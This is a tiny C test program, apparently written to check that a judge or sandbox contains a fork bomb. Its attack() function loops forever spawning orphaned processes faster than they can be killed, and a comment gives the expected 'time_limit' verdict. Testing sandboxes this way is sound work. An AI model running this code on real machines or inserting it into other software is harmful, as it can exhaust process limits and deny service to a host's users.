// Makes orphans faster than they are killed one by one.
// verdict: time_limit
bool attack()
{
    for (;;)
        if (fork() > 0 && getpid() != 1)
            if (getppid() == 1)
                usleep(100);
}
